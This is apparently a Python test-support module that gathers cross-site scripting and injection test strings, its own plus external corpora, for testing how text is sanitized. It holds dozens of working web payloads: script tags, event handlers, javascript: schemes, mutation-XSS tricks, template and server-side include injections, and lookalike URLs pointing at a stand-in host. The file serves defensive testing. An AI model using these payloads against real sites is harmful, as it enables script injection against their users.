"""Texts that try to become markup or script: our own, and those of public collections where a machine has them.

``XSS_CORPORA`` names a folder; each of its files is one text (``*.test``), one text a line (``*.txt``), or a list of
texts (``*.json``). The collections are other people's work and stay outside the repository.
"""

import json
import os
from pathlib import Path

EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "\x01javascript:",
    "vbscript:",
)

OWN = (
    "<script>document.title = 'taken'</script>",
    "<SCRIPT SRC=//elsewhere.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></article><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg></object>",
    "<embed src=//elsewhere.example/x.swf>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content=0;url=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/a.css>",
    "<style>@import '//elsewhere.example/a.css'; body { display: none }</style>",
    "<form action=//elsewhere.example/><button>Send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<img src=x:x onerror='alert`1`'>",
    "<p style=\"background:url(javascript:alert(1))\">",
    "<div id=composer></div><a id=chip name=chip>",
    "<form id=__proto__><input name=constructor>",
    "<details open ontoggle=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<a href=//elsewhere.example>free</a>",
    "<live-thread data-socket=//elsewhere.example/ data-seq=0></live-thread>",
    "{{ request.user.password }} {% load static %} {% debug %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "<!--#exec cmd=\"ls\"--> <?php echo 1 ?>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/`onmouseover=alert(1)`",
    "http://[::1]:80/\\@elsewhere.example/",
    "https://user:pass@elsewhere.example/",
    "\u202ehttps://elgoog.example\u202c",
    "https://exаmple.org/ with a letter that only looks like one",
    "[a](javascript:alert(1)) ![x](x\"onerror=\"alert(1)) <javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>\u2028<img src=x onerror=alert(1)>\u2029",
    "<\u0000script>alert(1)</script> <img \u000csrc=x\u000bonerror=alert(1)>",
    "ａｌｅｒｔ(1) ＜script＞alert(1)＜/script＞ ‹script›",
    *(f"<img src=x {event}=alert(1)>" for event in EVENTS),
    *(f"<b {event}=alert(1) tabindex=1 autofocus>x</b>" for event in EVENTS),
    *(f"<a href=\"{scheme}alert(1)\">go</a> {scheme}alert(1)" for scheme in SCHEMES),
    "a" * 10_000,
    "<b>" * 3_000,
    "z\u0323\u0307" * 2_000,
    "﷽" * 500,
)  # fmt: skip


def vectors() -> list[str]:
    """Ours, then those of ``XSS_CORPORA``, each once and none longer than a text may be."""
    found = [*OWN]
    folder = os.environ.get("XSS_CORPORA")
    for path in sorted(Path(folder).iterdir()) if folder else []:
        found += _texts(path)
    return list(dict.fromkeys(text for text in found if text.strip() and len(text) <= 10_000))


def _texts(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8", errors="replace")
    if path.suffix == ".json":
        return [str(item) for item in json.loads(text)]
    return [text] if path.suffix == ".test" else text.splitlines()
